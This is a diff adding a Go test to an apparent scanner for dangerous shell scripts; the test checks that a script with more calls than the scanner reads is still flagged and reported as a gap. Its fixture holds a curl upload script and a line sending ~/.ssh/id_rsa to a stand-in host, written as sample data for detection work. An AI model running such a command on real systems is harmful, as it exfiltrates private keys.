@@ -1,6 +1,8 @@
 package static_test
 
 import (
+	"fmt"
+	"strings"
 	"testing"
 	"testing/fstest"
 
@@ -58,5 +60,19 @@ func TestAScriptIsJudgedWithWhatALineGivesIt(t *testing.T) {
 		if got.dangerous(tc.at) != tc.dangerous {
 			t.Errorf("%s: dangerous %v, want %v: %v", name, got.dangerous(tc.at), tc.dangerous, got.found[tc.at])
 		}
+	}
+}
+
+// Calls behind the bound of a file are a gap, and those before it are looked at.
+func TestMoreCallsThanAreReadAreAGap(t *testing.T) {
+	testenv.WithoutRace(t, "one file at a time through the whole layer")
+	const upload = "#!/bin/sh\ncurl -fsS --data-binary @\"$1\" \"$2\"\n"
+	lines := "#!/bin/sh\ns/up.sh ~/.ssh/id_rsa https://c.example.com/u\n"
+	for i := range 70 {
+		lines += fmt.Sprintf("s/up.sh dist/%d https://c.example.com/u\n", i)
+	}
+	got := scanEdit(t, fstest.MapFS{"s/up.sh": file(upload)}, fstest.MapFS{"x.sh": file(lines)})
+	if !got.dangerous("x.sh") || !strings.Contains(fmt.Sprint(got.gaps), "not all scripts were looked at with what it gives them") {
+		t.Errorf("findings %v, gaps %v", got.found["x.sh"], got.gaps)
 	}
 }
